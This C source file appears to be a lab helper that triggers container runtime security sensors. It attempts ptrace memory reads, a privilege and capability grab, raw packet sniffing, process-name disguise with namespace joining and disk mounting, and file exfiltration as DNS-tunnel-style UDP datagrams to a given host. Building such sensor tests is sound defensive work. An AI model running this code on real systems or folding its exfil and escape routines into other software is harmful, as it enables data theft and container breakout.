/* The lab's helper, for what busybox cannot do (built static, copied into each lab container):
 *   labhelper ptrace PID      attach to PID with ptrace, read one word of its memory, detach
 *   labhelper setuid0         ask to become root: setuid(0), setresuid(0,0,0), setgid(0), then a capset
 *                             raising every capability (what an exploit's last step looks like)
 *   labhelper userns          unshare a user namespace (the usual first step of a kernel exploit)
 *   labhelper sniff           open a packet socket on every interface (AF_PACKET, ETH_P_ALL) and read
 *                             frames for a second (what tcpdump, an ARP spoofer or a sniffer does)
 *   labhelper exfil IP PORT FILE
 *                             send FILE to IP:PORT in 48-byte UDP datagrams by sendto(), hex-encoded as a
 *                             DNS tunnel's labels would be, with no connect()
 *   labhelper disguise NAME   take the name NAME (prctl PR_SET_NAME, e.g. runc's init's), then try what only the
 *                             runtime does while it sets a container up: joining pid 1's mount namespace, a
 *                             new user namespace, mounting a disk device
 * Each attempt's result is printed; failing is expected and fine, the attempt is what the sensor sees. */
#define _GNU_SOURCE
#include <errno.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/time.h>

static void report(const char *what, long r)
{
    printf("%s: %s\n", what, r < 0 ? strerror(errno) : "ok");
}

int main(int argc, char **argv)
{
    if (argc >= 3 && strcmp(argv[1], "ptrace") == 0) {
        pid_t pid = atoi(argv[2]);
        long r = ptrace(PTRACE_ATTACH, pid, 0, 0);
        report("ptrace attach", r);
        if (r == 0) {
            waitpid(pid, 0, 0);
            errno = 0;
            long word = ptrace(PTRACE_PEEKDATA, pid, (void *)0x400000, 0);
            report("ptrace peek", errno ? -1 : word);
            report("ptrace detach", ptrace(PTRACE_DETACH, pid, 0, 0));
        }
        return 0;
    }
    if (argc >= 2 && strcmp(argv[1], "setuid0") == 0) {
        report("setuid(0)", setuid(0));
        report("setresuid(0,0,0)", setresuid(0, 0, 0));
        report("setgid(0)", setgid(0));
        struct __user_cap_header_struct h = {_LINUX_CAPABILITY_VERSION_3, 0};
        struct __user_cap_data_struct d[2];
        memset(d, 0xff, sizeof(d));
        report("capset(all)", syscall(SYS_capset, &h, d));
        return 0;
    }
    if (argc >= 2 && strcmp(argv[1], "userns") == 0) {
        report("unshare(CLONE_NEWUSER)", unshare(CLONE_NEWUSER));
        return 0;
    }
    if (argc >= 2 && strcmp(argv[1], "sniff") == 0) {
        int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
        report("socket(AF_PACKET)", fd);
        if (fd >= 0) {
            struct timeval t = {1, 0};
            setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof(t));
            char frame[2048];
            int n = 0;
            while (n < 16 && recv(fd, frame, sizeof(frame), 0) > 0)
                n++;
            printf("frames: %d\n", n);
            close(fd);
        }
        return 0;
    }
    if (argc >= 5 && strcmp(argv[1], "exfil") == 0) {
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[3]))};
        inet_pton(AF_INET, argv[2], &to.sin_addr);
        int fd = socket(AF_INET, SOCK_DGRAM, 0), in = open(argv[4], O_RDONLY);
        if (fd < 0 || in < 0) {
            report("exfil", -1);
            return 0;
        }
        unsigned char chunk[24];
        char label[64];
        long n, sent = 0;
        while ((n = read(in, chunk, sizeof(chunk))) > 0) {
            for (long i = 0; i < n; i++)
                sprintf(label + 2 * i, "%02x", chunk[i]);
            if (sendto(fd, label, 2 * n, 0, (struct sockaddr *)&to, sizeof(to)) > 0)
                sent++;
        }
        printf("datagrams: %ld\n", sent);
        return 0;
    }
    if (argc >= 3 && strcmp(argv[1], "disguise") == 0) {
        report("prctl(PR_SET_NAME)", prctl(PR_SET_NAME, argv[2], 0, 0, 0));
        int ns = open("/proc/1/ns/mnt", O_RDONLY);
        report("setns(/proc/1/ns/mnt)", ns < 0 ? ns : setns(ns, 0));
        report("unshare(CLONE_NEWUSER)", unshare(CLONE_NEWUSER));
        report("mount(/dev/sda1)", mount("/dev/sda1", "/mnt", "ext4", 0, NULL));
        return 0;
    }
    fprintf(stderr, "usage: labhelper ptrace PID | setuid0 | userns | sniff | exfil IP PORT FILE | disguise NAME\n");
    return 2;
}
